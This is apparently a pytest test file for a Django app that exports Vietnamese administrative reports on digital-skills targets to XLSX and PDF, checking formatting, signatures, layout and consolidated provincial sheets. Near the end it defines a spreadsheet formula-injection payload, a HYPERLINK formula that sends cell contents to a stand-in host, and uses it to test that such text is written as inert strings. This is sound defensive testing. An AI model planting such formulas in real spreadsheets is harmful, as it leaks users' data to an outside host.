"""The unit report and the province's consolidated report as XLSX and PDF, in Vietnamese administrative style."""

import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from kynangso.reports import api as reports
from kynangso.reports.documents import date_line, figure_text
from tests.reports.conftest import YEAR, fill_sections
from tests.reports.pdf import pdf_text

CAMPAIGNS, STEM = "Số chiến dịch truyền thông về kỹ năng số", "Tỷ lệ trường tổ chức hoạt động STEM/STEAM"

pytestmark = pytest.mark.django_db
VN = ZoneInfo("Asia/Ho_Chi_Minh")


@pytest.fixture
def approved_report(followed, province, commune_admin, provincial_admin):
    report = fill_sections(
        reports.start_report(unit=province.a, year=YEAR, actor=commune_admin),
        commune_admin,
        issued_on=datetime.date(YEAR, 12, 5),
        recipients="- UBND tỉnh;\n- Lưu: VT.",
    )
    reports.submit_report(report=report, actor=commune_admin, now=datetime.datetime(YEAR, 12, 5, 9, tzinfo=VN))
    return reports.approve_report(report=report, actor=provincial_admin)


def test_the_date_line_pads_days_below_ten_and_the_first_two_months():
    assert date_line("Phú Hòa", datetime.date(2026, 2, 5)) == "Phú Hòa, ngày 05 tháng 02 năm 2026"
    assert date_line("Phú Hòa", datetime.date(2026, 12, 15)) == "Phú Hòa, ngày 15 tháng 12 năm 2026"
    assert date_line("", None) == "ngày … tháng … năm …"


def test_figures_are_written_the_vietnamese_way():
    assert figure_text("1234", "count") == "1.234"
    assert figure_text("45.67", "percent") == "45,7%"
    assert figure_text(None, "count") == "—"


def test_the_unit_report_spreadsheet_has_the_header_and_the_figures(approved_report):
    sheet = load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))).active
    cells = list(sheet.iter_rows(values_only=True))
    flat = [value for row in cells for value in row if value is not None]
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in flat
    assert "Độc lập - Tự do - Hạnh phúc" in flat
    assert "Số: 15/BC-UBND" in flat
    assert "An Bình, ngày 05 tháng 12 năm 2026" in flat
    table = [row for row in cells if isinstance(row[0], int)]
    assert [row[0] for row in table] == [1, 2]  # «STT», not internal codes
    by_name = {row[1]: row for row in table}
    assert by_name[CAMPAIGNS][3:6] == (6, 8, 2)
    assert by_name[STEM][3:6] == (40, 50, 10)
    assert "Nơi nhận:" in flat and "- UBND tỉnh;" in flat
    assert "TRẦN VĂN BÌNH" not in flat and "Trần Văn Bình" in flat


def test_the_unit_report_pdf_reads_as_an_administrative_document_with_its_figures(approved_report):
    text = pdf_text(reports.unit_report_pdf(approved_report))
    for expected in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Số: 15/BC-UBND",
        "An Bình, ngày 05 tháng 12 năm 2026",
        "XÃ AN BÌNH",
        "Nơi nhận:",
        "PHÓ CHỦ TỊCH",
        "Trần Văn Bình",
        "Số chiến dịch truyền thông về kỹ năng số",
    ):
        assert expected in text, expected
    row = next(line for line in text.splitlines() if "Số chiến dịch truyền thông" in line or line.startswith("6 8"))
    assert row
    assert "40,0% 50,0% 10,0%" in text


def test_a_communes_report_is_issued_and_signed_by_its_peoples_committee(approved_report):
    """Issue 18: not «XÃ AN BÌNH» under the province, but «ỦY BAN NHÂN DÂN» / «XÃ AN BÌNH», signed on its behalf."""
    lines = [line.strip() for line in pdf_text(reports.unit_report_pdf(approved_report)).splitlines()]
    assert lines[:2] == ["ỦY BAN NHÂN DÂN", "XÃ AN BÌNH"]
    assert "TỈNH THỬ NGHIỆM" not in lines
    signature = lines.index("TM. ỦY BAN NHÂN DÂN")
    assert lines[signature + 1 : signature + 3] == ["KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]


@pytest.mark.parametrize("paragraphs", [4, 20, 36])  # lengths that once left «Nơi nhận» and the signature alone
def test_the_signature_never_stands_alone_on_the_last_page(followed, province, commune_admin, paragraphs):
    report = reports.start_report(unit=province.a, year=YEAR, actor=commune_admin)
    fill_sections(
        report,
        commune_admin,
        proposals="\n".join(
            f"Đoạn {number}: đơn vị đã triển khai nhiều hoạt động hỗ trợ người dân học kỹ năng số tại nhà văn hóa."
            for number in range(paragraphs)
        ),
    )
    report.refresh_from_db()
    pages = PdfReader(io.BytesIO(reports.unit_report_pdf(report))).pages
    last_page = pages[-1].extract_text().split()
    assert len(pages) > 1 and last_page[:2] != ["Nơi", "nhận:"]
    assert "Đoạn" in last_page  # the end of the text comes along with the signature


def test_the_unit_report_pdf_embeds_the_trend_charts(approved_report):
    content = reports.unit_report_pdf(approved_report)
    text = pdf_text(content)
    assert "Diễn biến: Số chiến dịch truyền thông về kỹ năng số" in text
    assert "Chỉ tiêu" in text  # the chart's legend is text inside the embedded SVG


def test_the_consolidated_spreadsheet_sums_the_units_and_lists_who_reported(approved_report, followed, province):
    consolidated = reports.consolidated_report(
        province=province.root, year=YEAR, plan_id=followed.plan.pk, today=datetime.date(YEAR, 12, 20)
    )
    book = load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated)))
    summary = [row for row in book["Tổng hợp"].iter_rows(values_only=True)]
    province_row = next(row for row in summary if row[1] == CAMPAIGNS)
    assert province_row[0] == 1 and province_row[3:5] == (15, 20)
    units = {row[1]: row[2:] for row in book["Theo đơn vị"].iter_rows(min_row=3, values_only=True)}
    assert units["Xã An Bình"][0] == 6
    assert units["Phường Bình Minh"][0] == 9
    assert units["Sở Khoa học và Công nghệ"][0] is None
    status = {row[1]: row[2:] for row in book["Tình hình gửi báo cáo"].iter_rows(min_row=3, values_only=True)}
    assert status["Xã An Bình"] == ("Đã duyệt", "05/12/2026", "Đúng hạn")
    assert status["Phường Bình Minh"] == ("Chưa lập", None, "Trễ hạn")


def test_the_consolidated_pdf_has_the_province_figures_and_the_late_units(approved_report, followed, province):
    consolidated = reports.consolidated_report(
        province=province.root, year=YEAR, plan_id=followed.plan.pk, today=datetime.date(YEAR, 12, 20)
    )
    text = pdf_text(reports.province_report_pdf(consolidated))
    assert "BÁO CÁO TỔNG HỢP" in text and "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "15 20 5" in text  # province: value, target, gap of the campaigns
    assert "Xã An Bình" in text and "Phường Bình Minh" in text
    assert "Trễ hạn" in text


def test_every_sheet_prints_on_a4_fitted_to_width_with_its_header_row_repeated_and_frozen(
    approved_report, followed, province
):
    consolidated = reports.consolidated_report(
        province=province.root, year=YEAR, plan_id=followed.plan.pk, today=datetime.date(YEAR, 12, 20)
    )
    books = [
        load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))),
        load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated))),
    ]
    for sheet in (sheet for book in books for sheet in book.worksheets):
        setup = sheet.page_setup
        assert int(setup.paperSize) == int(sheet.PAPERSIZE_A4), sheet.title  # 9: A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and setup.fitToWidth == 1 and setup.fitToHeight == 0
        header_row = int(sheet.print_title_rows.split(":")[0].lstrip("$"))
        assert sheet[f"A{header_row}"].value == "STT", sheet.title
        assert sheet.freeze_panes == f"A{header_row + 1}", sheet.title


def test_the_spreadsheet_has_the_pdfs_sections_in_the_pdfs_order(approved_report):
    import re

    numbered = re.compile(r"^(I|II|III|IV|V|VI)\. [A-ZĐỦỒẾỆỘƠƯẠ]")
    sheet = load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))).active
    in_sheet = [
        cell.value
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and numbered.match(cell.value)
    ]
    in_pdf = [
        line.strip()
        for line in pdf_text(reports.unit_report_pdf(approved_report)).splitlines()
        if numbered.match(line.strip())
    ]
    assert in_sheet == in_pdf
    assert in_sheet[:2] == ["I. ĐÁNH GIÁ CHUNG", "II. KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU"]


def test_the_motto_is_underlined_in_the_spreadsheet(approved_report):
    sheet = load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))).active
    motto = next(cell for row in sheet.iter_rows() for cell in row if cell.value == "Độc lập - Tự do - Hạnh phúc")
    assert motto.font.underline == "single" and motto.font.bold


MALICIOUS = '=HYPERLINK("http://x?d="&A1,"x")'


def _text_cells(book):
    return [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
    ]


def test_report_text_that_looks_like_a_formula_is_written_as_text(followed, province, commune_admin):
    """Issue 13, finding 4: free text typed into a report must not become a live formula in its spreadsheet."""
    report = fill_sections(
        reports.start_report(unit=province.a, year=YEAR, actor=commune_admin),
        commune_admin,
        general_assessment=MALICIOUS,
        recipients="- UBND tỉnh;\n+ Lưu: VT.",
    )
    book = load_workbook(io.BytesIO(reports.unit_report_xlsx(report)))
    cells = {cell.value: cell for cell in _text_cells(book)}
    for text in (MALICIOUS, "- UBND tỉnh;", "+ Lưu: VT."):
        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)


def test_a_unit_name_that_looks_like_a_formula_is_text_in_the_consolidated_spreadsheet(
    approved_report, followed, province
):
    province.b.name = MALICIOUS
    province.b.save(update_fields=["name"])
    consolidated = reports.consolidated_report(
        province=province.root, year=YEAR, plan_id=followed.plan.pk, today=datetime.date(YEAR, 12, 20)
    )
    book = load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated)))
    found = [cell for cell in _text_cells(book) if cell.value == MALICIOUS]
    assert found and all((cell.data_type, cell.quotePrefix) == ("s", True) for cell in found)
